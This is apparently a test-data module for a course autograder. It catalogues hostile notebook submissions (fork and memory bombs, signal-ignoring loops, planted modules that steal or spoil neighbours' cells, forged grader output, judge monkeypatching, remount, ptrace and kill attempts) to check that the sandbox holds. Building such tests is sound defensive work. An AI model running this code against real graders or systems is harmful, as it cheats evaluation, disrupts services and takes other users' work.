"""Submissions that attack the grader or break, as data: what each does, and which tasks it should lose.

`hostile_class.py` makes a class of them and grades it.

All are notebooks for ps2 that are perfect but for what stands here. An attack in an answer replaces `output_size`; it
returns the right number only if it got what it was after. (The tests lift the tasks' rules, by which most of these
would not count at all: here the walls must hold.)
"""

from dataclasses import dataclass

TASK = "output-size"
EVERY = "every task"
RIGHT = "return (size + 2 * padding - kernel_size) // stride + 1"


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        what: it does, in words.
        where: "answer", the body of `output_size`; "cell", a cell before all others; or "file".
        code: what stands there; for "file" the bytes, or how hostile_class.py makes them.
        loses: the tasks that it should get no point for.
    """

    what: str
    where: str
    code: str | bytes
    loses: frozenset | str = frozenset()


def answer(what, code):
    return Attack(what, "answer", code.strip("\n"), frozenset({TASK}))


def if_it_works(what, code):
    """An answer that tries something, and is right where that raises nothing."""
    body = "\n".join(f"    {line}" for line in code.strip("\n").splitlines())
    return answer(what, f"try:\n{body}\nexcept BaseException:\n    return -1\n{RIGHT}")


def cell(what, code, loses=frozenset()):
    return Attack(what, "cell", code.strip("\n"), loses if loses == EVERY else frozenset(loses))


def file(what, content, loses=EVERY):
    return Attack(what, "file", content, loses)


def alone(what, code):
    """A notebook that is nothing but this cell."""
    return Attack(what, "alone", code.strip("\n"), EVERY)


WRONG = "\ndef output_size(size, kernel_size, stride, padding): return 0\n"

# Modules of Python that the neighbours import and that nothing has imported before them: what would be planted so.
PLANTED = ("colorsys", "pyclbr", "tabnanny")
PLANT = """
import glob, os, sys
import pooling_course
folders = {'', '/', '/etc', '/dev', '/sys', '/usr', '/var', '/run', '/tmp', '/var/tmp', '/dev/shm', '/home', *sys.path}
folders |= {os.path.dirname(place) for place in folders} | {os.path.dirname(m.__file__ or '') for m in
    list(sys.modules.values()) if getattr(m, '__file__', None)}
for folder in folders:
    for name in %r:
        try:
            with open(os.path.join(folder, name + '.py'), 'w') as file: file.write(%r)
        except OSError: pass
"""
SPOILS = """
import builtins, sys
for module in list(sys.modules.values()):
    for name in ('max', 'sum', 'zeros', 'empty', 'full'):
        if hasattr(module, name):
            try: setattr(module, name, lambda *a, **k: 0)
            except Exception: pass
builtins.max = builtins.range = builtins.min = lambda *a: [0]
"""
STEALS = """
import os, sys
frame, found = sys._getframe(), []
while frame:
    jobs = [getattr(value, 'job', None) for value in frame.f_locals.values()]
    found += [job['cells'] for job in jobs if type(job) is dict]
    frame = frame.f_back
for folder in ('/', '/etc', '/dev', '/usr', os.path.dirname(__file__)):
    try:
        with open(os.path.join(folder, 'stolen'), 'w') as file: file.write(repr(found))
    except OSError: pass
"""
FIND_WORD = """
import gc, os, sys
def word():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if type(getattr(value, 'word', None)) is str: return value.word, value.pipe
        frame = frame.f_back
    return '', 3
"""

# Answers that only compute, and so share a fork with others: what no signal handler can interrupt, or ends the process.
COMPUTING = {
    "power": "return 10 ** 10 ** 9",
    "sum": "return sum(range(10**13))",
    "map": "return max(map(len, [range(10**9)] * 10**9))",
    "text": 'return len("a" * 10**11)',
    "list": "return len([0] * 10**10)",
    "array": "return np.zeros(10**12).sum()",
    "product": "many = np.ones((10**4, 10**4))\nreturn (many @ many).sum()",
    "loop": "while True:\n    try:\n        while True: pass\n    except: pass",
    "deep": "def down(x): return down(x + 1)\nreturn down(0)",
    "deep-c": "def down(x): return sorted([x], key=down)\nreturn down(0)",
    "itself": "x = []\nx.append(x)\nreturn str(x)",
}

ATTACKS = {
    **{
        f"compute-{name}": answer("computes what has no end, or too much of it", code)
        for name, code in COMPUTING.items()
    },
    # ---- What stays behind for the next
    "stay-keeps": cell("plants modules that keep the cells of whoever imports them", PLANT % (PLANTED, STEALS)),
    "stay-modules": cell("plants modules that spoil the answers of whoever imports them", PLANT % (PLANTED, SPOILS)),
    "stay-stolen": alone(
        "hands in what was stolen",
        """
import ast, glob, sys
for path in glob.glob('/stolen') + glob.glob('/*/stolen') + [place + '/stolen' for place in sys.path]:
    try: stolen = ast.literal_eval(open(path).read())
    except Exception: continue
    for cells in stolen:
        for _, code in cells:
            try: exec(code)
            except Exception: pass
""",
    ),
    "stay-compiled": cell(
        "plants compiled modules beside the course's own",
        """
import os, py_compile, sys
open('spoils.py', 'w').write(SPOILS)
for name, module in list(sys.modules.items()):
    place = getattr(module, '__cached__', None)
    if name.startswith('pooling_course') and place:
        try:
            os.makedirs(os.path.dirname(place), exist_ok=True)
            py_compile.compile('spoils.py', cfile=place, doraise=True)
        except Exception: pass
""".replace("SPOILS", repr(SPOILS)),
    ),
    "stay-links": cell(
        "puts links where the next will write",
        """
import os
for folder in ('/', '/submission', '/dev/shm', '/tmp', '/dev', '/var/tmp'):
    for name in ('left', 'here', 'x', 'matplotlib', 'fontlist-v390.json'):
        try: os.symlink('/dev/zero', folder + '/' + name)
        except OSError: pass
""",
    ),
    "stay-any-file": if_it_works(
        "finds a folder, a file or a link that can be made and is not its own",
        """
import os
def made(path):
    for how in (os.mkdir, os.mkfifo, lambda path: os.symlink('/', path), lambda path: open(path, 'x')):
        try: how(path)
        except OSError: continue
        return True
places = (folder for folder, _, _ in os.walk('/') if not folder.startswith(('/submission', '/dev/shm', '/proc')))
assert any(made(os.path.join(folder, 'made')) for folder in places)
""",
    ),
    "stay-change": if_it_works(
        "changes a file that is there: its text, its mode, its time, its name",
        """
import os
def changed(path):
    for how in (lambda: open(path, 'a'), lambda: os.chmod(path, 0o777), lambda: os.utime(path), lambda: os.unlink(path),
                lambda: os.rename(path, path + '2'), lambda: os.truncate(path, 0)):
        try: how()
        except OSError: continue
        return True
places = (os.path.join(f, name) for f, _, names in os.walk('/') for name in names)
assert any(changed(p) for p in places if not p.startswith(('/submission', '/dev/', '/proc/')) and not os.path.islink(p))
""",
    ),
    "stay-remount": if_it_works(
        "makes the sandbox writable again",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
places = (b'/', b'/usr', b'/dev', b'/proc', b'/submission')
assert any(libc.mount(None, place, None, 32, None) == 0 or libc.syscall(442, -100, place, 0, None, 0) == 0
           for place in places)
""",
    ),
    "stay-socket": cell(
        "leaves a process that listens on a socket without a file",
        """
import os, socket, time
if os.fork() == 0:
    if os.fork() == 0:
        server = socket.socket(socket.AF_UNIX)
        server.bind('\\0left')
        server.listen()
        time.sleep(1e6)
    os._exit(0)
""",
    ),
    "stay-socket-found": if_it_works(
        "asks who listens there", "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0left')"
    ),
    "stay-locks": cell(
        "leaves locks, a signal and a flag on the files that it was given",
        """
import fcntl, struct
for fd in (0, 1, 2):
    for what in ((10, 34), (4, 0o4000), *((37, struct.pack('hhqqi4x', 1, 0, at, 1, 0)) for at in (3, 14, 159))):
        try: fcntl.fcntl(fd, *what)
        except OSError: pass
""",
    ),
    "stay-locks-found": if_it_works(
        "finds them, or can leave some on a file that others see, too",
        """
import fcntl, os, struct
def lock(kind): return struct.pack('hhqqi4x', kind, 0, 3, 1, 0)
def held(fd): return struct.unpack_from('h', fcntl.fcntl(fd, 36, lock(1)))[0] != 2
seen, mine, other = os.open('/dev/null', os.O_RDWR), *(os.open(os.__file__, os.O_RDONLY) for _ in 'ab')
found = held(seen) or any(fcntl.fcntl(fd, 11) or fcntl.fcntl(fd, 3) & 0o4000 for fd in (0, 1, 2))
fcntl.fcntl(mine, 37, lock(0))
found |= held(other)
fcntl.flock(mine, 2)
try: fcntl.flock(other, 6)
except OSError: found = True
for fd in (seen, mine, other): os.close(fd)
assert found
""",
    ),
    "stay-shared": if_it_works(
        "looks for memory that it shares with the next",
        "import mmap, torch\nshared = [line for line in open('/proc/self/maps') if 'rw-s' in line]\nassert shared",
    ),
    # ---- Floods for the judge
    "flood-steps": cell(
        "ends its own step, then sends 200 steps of 4 MB each, as the channel had them before lines began with a word",
        """
import os
def send(text):
    text = text.encode()
    while text: text = text[os.write(3, text):]
try:
    send('< 1 ""\\n= 1\\n')
    for step in range(100, 300): send(f'> {step}\\n< {step} ' + 'x' * 3_900_000 + f'\\n= {step}\\n')
except OSError: pass
""",
    ),
    "flood-steps-word": cell(
        "does so with the word that it found",
        FIND_WORD
        + """
w, fd = word()
def send(text):
    text = text.encode()
    while text: text = text[os.write(fd, text):]
try:
    send(f'{w} < 1 ""\\n{w} = 1 \\n')
    for step in range(2, 300): send(f'{w} > {step}\\n{w} < {step} ' + '[' * 500_000 + f'\\n{w} = {step} \\n')
except OSError: pass
""",
        EVERY,
    ),
    "flood-line": cell(
        "sends one line without an end, with the word that it found",
        FIND_WORD + "w, fd = word()\nos.write(fd, (w + ' < 1 ').encode())\nwhile True: os.write(fd, b'x' * 65536)",
    ),
    "hidden-early": cell(
        "says that what is hidden may come, again and again, and raises what it reads",
        FIND_WORD
        + """
import select, threading, time
w, fd = word()
def takes():
    while True:
        try: os.write(fd, (w + ' /\\n').encode())
        except OSError: return
        if select.select([4], [], [], 0.001)[0]: print(os.read(4, 1 << 20))
threading.Thread(target=takes, daemon=True).start()
time.sleep(0.1)
""",
    ),
    "flood-values": answer("returns 100,000 numbers for every case", "return [0.1234567890123 * size] * 100_000"),
    "flood-lists": answer("returns lists of empty lists", "return [[[]] * 300] * 300"),
    "flood-prints": answer("prints and raises as much as is kept", "print('x' * 9999)\nraise ValueError('x' * 9999)"),
    "flood-array": answer("returns arrays in many dimensions", "return np.zeros((1,) * 30 + (99_000,))"),
    "flood-magics": cell("two thousand lines that only IPython understands", "\n".join("!ls" for _ in range(2000))),
    "flood-names": cell("functions of a hundred thousand letters", f"def output_siz{'e' * 100_000}(): pass"),
    "flood-processes": answer(
        "ten processes of 300 MB each",
        """
import os, time
for _ in range(10):
    if os.fork() == 0:
        x = bytearray(300 << 20)
        x[::4096] = b'x' * len(x[::4096])
        time.sleep(1e6)
time.sleep(1e6)
""",
    ),
    "flood-watches": if_it_works(
        "has the kernel watch files, for which it takes memory that no limit counts",
        "import ctypes\nassert ctypes.CDLL(None).inotify_init() >= 0",
    ),
    "flood-errors": file("nine hundred cells that raise", "errors", frozenset()),
    "flood-definitions": file("the same function nine hundred times", "definitions", frozenset()),
    "flood-json": file("40 MB of empty lists as cells", b'{"cells": [' + b"[], " * 10_000_000 + b"[]]}"),
    "flood-json-outputs": file("40 MB of empty lists as outputs", b'{"cells": [[' + b"[], " * 10_000_000 + b"[]]]}"),
    # ---- Sleep
    "sleep-cells": file("twelve cells that sleep for a minute each", "sleeping"),
    "sleep-within": file("cells that sleep just as long as a cell may", "resting"),
    "sleep-await": cell("a cell that awaits forever", "import asyncio\nawait asyncio.sleep(1e6)"),
    "sleep-lock": cell(
        "waits for a lock that nobody gives back", "import threading\nl = threading.Lock()\nl.acquire(); l.acquire()"
    ),
    "sleep-pause": cell("waits for a signal, with alarms off", "import signal\nsignal.alarm(0)\nsignal.pause()"),
    "sleep-read": cell("reads what nobody writes", "import os\nos.read(os.pipe()[0], 1)"),
    "sleep-each": answer("sleeps a little in every case", "import time\ntime.sleep(0.3)\n" + RIGHT),
    "sleep-after": answer(
        "sleeps when it is over", "import atexit, time\natexit.register(time.sleep, 1e6)\ntime.sleep(1e6)"
    ),
    "sleep-thread": answer(
        "waits for a thread that sleeps",
        "import time\nt = threading.Thread(target=time.sleep, args=(1e6,))\nt.start()\nt.join()",
    ),
    # ---- Answers that do not come back, or take the process with them
    "loop": answer("an infinite loop", "while True: pass"),
    "loop-swallows": answer(
        "an infinite loop that swallows interrupts and turns alarms off",
        """
import signal
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
signal.alarm(0)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    ),
    "sleep": answer("sleeps forever", "import signal, time\nsignal.alarm(0)\ntime.sleep(1e6)"),
    "stop": answer("stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    "exit": answer("exit()", "exit()"),
    "interrupt": answer("raises KeyboardInterrupt", "raise KeyboardInterrupt"),
    "os-exit": answer("os._exit", "import os\nos._exit(0)"),
    "crash": answer("crashes Python", "import ctypes\nctypes.string_at(0)"),
    "memory-array": answer("a memory bomb: one array", "return np.ones(10**11).sum()"),
    "memory-list": answer("a memory bomb: ever more lists", "x = []\nwhile True: x.append(bytearray(1 << 22))"),
    "memory-shared": answer(
        "a memory bomb where no limit on processes counts",
        "import mmap\nx = []\nwhile True: x.append(mmap.mmap(-1, 1 << 26)); x[-1].write(bytes(1 << 26))",
    ),
    "fork-bomb": answer("a fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    "thread-bomb": answer(
        "a thread bomb",
        "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(1e6,)).start()",
    ),
    "deep": answer("recursion without end", "import sys\nsys.setrecursionlimit(10**9)\nreturn output_size(0, 1, 1, 1)"),
    "deep-c": answer("recursion without end in C", "x = []\nfor _ in range(10**6): x = [x]\nreturn x"),
    "huge-output": answer("prints a gigabyte", "print('x' * 10**9)"),
    "huge-lines": answer("prints line after line", "while True: print('x' * 1000)"),
    "huge-value": answer("returns a billion numbers", "return np.broadcast_to(1.0, (10**9,))"),
    "huge-int": answer("returns an int of a million digits", "return 10**1000000"),
    "fill-disk": answer("fills its disk", "with open('x', 'wb') as f:\n    while True: f.write(bytes(1 << 20))"),
    "left-holding": answer(
        "leaves a process that holds every channel open",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(1e6)
    os._exit(0)
return -1
""",
    ),
    # ---- Answers that forge
    "forge-stdout": answer("prints results", 'print(\'[["value", 4, "", ""]]\')\nreturn -1'),
    "forge-channels": answer(
        "writes results to every open file",
        """
import os
for fd in range(64):
    for step in range(40):
        try: os.write(fd, f'< {step} [["value", 4, "", ""]]\\n= {step}\\n'.encode())
        except OSError: pass
return -1
""",
    ),
    "flood-channels": answer(
        "writes without end to every open file",
        """
import os
while True:
    for fd in range(64):
        try: os.write(fd, b'x' * 100000)
        except OSError: pass
""",
    ),
    "proc-fd": if_it_works("writes through /proc/self/fd", "import os\nos.listdir('/proc/self/fd')"),
    "liar": answer(
        "returns a number that says it equals all others",
        "lies = {'__eq__': lambda a, b: True, '__ne__': lambda a, b: False, '__hash__': int.__hash__}\n"
        "return type('Liar', (int,), lies)(-1)",
    ),
    "class-trick": answer(
        "returns an object that says it is a float",
        "return type('Float', (), {'__class__': property(lambda self: float), '__float__': lambda self: 1 / 0})()",
    ),
    "liar-int": answer(
        "returns the right number that says, when it is read, that it is another",
        "lies = {'__int__': lambda self: -2, '__index__': lambda self: -2}\n"
        f"return type('Liar', (int,), lies)({RIGHT.removeprefix('return ')})",
    ),
    "list-endless": answer(
        "returns a list that never ends",
        "def ever(self):\n    while True: yield self\nreturn type('Ever', (list,), {'__iter__': ever})([1])",
    ),
    "answers-twice": answer("answers in two processes", "import os\nos.fork()\nreturn -1"),
    "array-trick": answer(
        "returns an array of a class of its own",
        "return np.array(-1.0).view(type('Mine', (np.ndarray,), {'tolist': lambda self: [['array'] * 9]}))",
    ),
    "itself": answer("returns a list that holds itself", "x = []\nx.append(x)\nreturn x"),
    "script": answer(
        "raises and prints HTML, control characters and half characters",
        "print('<script>alert(1)</script>')\nraise ValueError('<script>alert(2)</script>\\0\\x1b[31m\\ud800')",
    ),
    "error-trick": answer(
        "raises an error whose text is an error",
        "raise type('E', (Exception,), {'__str__': lambda self: 1 / 0})()",
    ),
    # ---- Answers that look for what is not theirs
    "read-model": if_it_works(
        "imports the model answer", "from pooling_course.exercises.tasks.output_size import output_size as model"
    ),
    "read-load": if_it_works(
        "asks the course for the model answer",
        "from pooling_course.exercises import load\nload('output-size').model(6, 2, 2, 0) + 0",
    ),
    "read-definition": if_it_works(
        "loads the exercise past what is put in its place",
        "from pooling_course.exercises.definition import load\nload('output-size')",
    ),
    "read-disk": if_it_works(
        "searches the disk for solutions, other notebooks and the gradebook",
        """
import os
found = [f for folder, _, files in os.walk('/') for f in files
         if f in ('output_size.py', 'ps2.ipynb', 'results.sqlite', 'grades.csv', 'loop.ipynb')]
assert found
""",
    ),
    "read-seeds": if_it_works(
        "looks for seeds and cases with the grader",
        "from pooling_course.grading.mark import _question\n_question('output-size', (0, 481)).cases[0]",
    ),
    "read-parent": if_it_works("reads the memory of its parent", "open('/proc/1/mem', 'rb')"),
    "ptrace": if_it_works(
        "traces the processes around it",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
assert any(libc.ptrace(16, pid, None, None) == 0 for pid in (os.getppid(), 1, 2, 3))
""",
    ),
    "memory-of-others": if_it_works(
        "reads memory with process_vm_readv",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
into = ctypes.create_string_buffer(8)
vector = (ctypes.c_void_p * 2)(ctypes.addressof(into), 8)
assert libc.process_vm_readv(1, vector, 1, (ctypes.c_void_p * 2)(id(int), 8), 1, 0) == 8
""",
    ),
    "kill": answer(
        "kills all it can reach",
        """
import os, signal
for pid in (os.getppid(), 1, 2, 3, 0, -1):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
return -1
""",
    ),
    "network": if_it_works(
        "opens a connection", "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=1)"
    ),
    "network-raw": if_it_works(
        "opens a socket by system call",
        "import ctypes\nassert any(ctypes.CDLL(None).socket(family, 1, 0) >= 0 for family in (2, 10, 16, 17))",
    ),
    "programs": if_it_works(
        "runs a program", "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'true'], check=True)"
    ),
    "write-outside": if_it_works(
        "writes to every folder there is",
        """
import os
def written(folder):
    try:
        with open(os.path.join(folder, 'sitecustomize.py'), 'w'): return True
    except OSError: return False
assert any(written(folder) for folder, _, _ in os.walk('/') if not folder.startswith(('/submission', '/dev/shm')))
""",
    ),
    "leave-behind": answer(
        "leaves files for the next",
        """
for folder in ('/submission', '/dev/shm', '/tmp', '/var/tmp'):
    try: open(folder + '/left', 'w').close()
    except OSError: pass
return -1
""",
    ),
    "leave-found": if_it_works(
        "looks for what others left", "import os\nassert any(os.path.exists(f + '/left') for f in ('/tmp', '/dev/shm'))"
    ),
    "namespaces": if_it_works(
        "makes namespaces of its own",
        "import ctypes\nassert any(ctypes.CDLL(None).unshare(flag) == 0 for flag in (1 << 28, 1 << 17, 1 << 30))",
    ),
    "clone": if_it_works(
        "makes a process with namespaces of its own",
        "import ctypes\nassert ctypes.CDLL(None).syscall(56, (1 << 28) | 17, 0, 0, 0, 0) >= 0",
    ),
    "unmount": if_it_works(
        "takes the masks off",
        "import ctypes\nassert any(ctypes.CDLL(None).umount2(f, 2) == 0 for f in (b'/proc', b'/submission', b'/'))",
    ),
    "limits": if_it_works("lifts its limits", "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))"),
    # ---- Cells that harm the notebook they stand in
    "cell-exit": cell("a cell with exit()", "exit()"),
    "cell-os-exit": cell("a cell with os._exit", "import os\nos._exit(0)"),
    "cell-loop": cell(
        "a cell that never ends", "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    ),
    "cell-memory": cell("a cell with a memory bomb", "x = []\nwhile True: x.append(bytearray(1 << 24))"),
    "cell-fork-bomb": cell(
        "a cell with a fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"
    ),
    "cell-close": cell("a cell that closes every file", "import os\nos.closerange(0, 4096)"),
    "cell-forge": cell(
        "a cell that writes results to every file, and answers wrongly",
        """
import os
for fd in range(64):
    try: os.write(fd, b'< 0 ""\\n= 0\\n> 12\\n< 12 [["value", 4, "", ""]]\\n= 12\\n.\\n')
    except OSError: pass
""",
    ),
    "cell-kill": cell(
        "a cell that kills all it can reach",
        """
import os, signal
for send, pid in ((os.killpg, 0), (os.kill, os.getppid()), (os.kill, -1)):
    try: send(pid, signal.SIGKILL)
    except OSError: pass
""",
    ),
    "cell-threads": cell(
        "threads that stay, and handlers for the end",
        """
import atexit, os, threading, time
for _ in range(4): threading.Thread(target=time.sleep, args=(1e6,)).start()
atexit.register(time.sleep, 1e6)
os.register_at_fork(after_in_child=lambda: None)
""",
    ),
    "cell-fork": cell("os.fork is another function", "import os\nos.fork = lambda: 0"),
    "cell-json": cell("json writes something else", "import json\njson.dumps = json.loads = lambda *a, **k: 'hacked'"),
    "cell-trace": cell(
        "has every call of the grader's raise",
        """
import sys
def trace(frame, event, arg):
    if 'pooling_course' in frame.f_code.co_filename: raise KeyboardInterrupt
    return trace
sys.settrace(trace)
""",
    ),
    "cell-audit": cell(
        "has forks, compilers and imports refused, for as long as Python runs",
        """
import sys
def hook(event, args):
    if event in ('os.fork', 'compile', 'import', 'open'): raise RuntimeError(event)
sys.addaudithook(hook)
""",
        EVERY,
    ),
    "cell-modes": cell(
        "leaves torch in modes in which nothing works, with another default type",
        """
import torch
from torch.overrides import TorchFunctionMode
class Nothing(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None): raise RuntimeError('nothing here')
torch.set_default_dtype(torch.float16)
torch.set_default_device('meta')
Nothing().__enter__()
""",
    ),
    "cell-judge": cell(
        "the judge, torch and NumPy find everything equal, and an answer is wrong",
        """
import sys
import numpy, torch
import pooling_course, pooling_course.exercises.verdict as verdict
import pooling_course.exercises.plain as plain
verdict.judge = pooling_course.check = lambda *a, **k: 3
plain.differs = lambda *a: ''
torch.equal = torch.allclose = numpy.array_equal = numpy.allclose = lambda *a, **k: True
sys.modules['pooling_course.grading.mark'] = sys.modules['pooling_course.exercises'] = sys
""",
    ),
    "cell-cwd": cell(
        "another folder, another path, a sitecustomize",
        """
import os, sys
os.mkdir('here')
os.chdir('here')
open('sitecustomize.py', 'w').write('1 / 0')
sys.path[:] = ['.']
""",
    ),
    "cell-syntax": cell("a cell that is no Python", "def (:"),
    "cell-magic": cell("IPython's own lines", "%matplotlib inline\n!pip install torch\nx = 1"),
    "cell-parser": cell("text that is too deep for Python's parser", "x = " + "(" * 5000 + ")" * 5000),
    "cell-parser-deep": cell("text that is too deep for a syntax tree", "x = " + "-" * 50000 + "1"),
    "cell-parser-dots": cell("a chain of attributes without end", "x = a" + ".b" * 50000),
    # ---- Checks that are edited, and answers that are not there
    "edited-checks": Attack("test cells edited to give full points", "edited", WRONG, frozenset({TASK})),
    "deleted-checks": Attack("test cells deleted", "deleted", ""),
    "no-function": Attack("a function is missing", "answer", "", frozenset({TASK})),
    "no-functions": file("a notebook without any function", b'{"cells": [], "nbformat": 4}'),
    # ---- Files
    "broken-json": file("JSON that breaks off", b'{"cells": [{"cell_type": "code", "source": "1 +'),
    "no-json": file("no JSON at all", b"\x89PNG\r\n\x1a\n\x00\xff"),
    "empty": file("an empty file", b""),
    "other-json": file("JSON that is no notebook", b'[{"cells": 3}, null]'),
    "odd-cells": file("cells that are no cells", b'{"cells": [3, null, {"cell_type": "code", "source": {"a": [1]}}]}'),
    "nested": file("JSON nested a million deep", b'{"cells": ' + b"[" * 1_000_000),
    "nested-whole": file("whole JSON nested deep", b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "many-cells": file("a hundred thousand cells", "many"),
    "large": file("a notebook of 50 MB, with right answers", "large", frozenset()),
    "folder": file("a folder that is called a notebook", "folder"),
    "link": file("a link to the neighbour's notebook", "link"),
    "pipe": file("a named pipe", "pipe"),
}
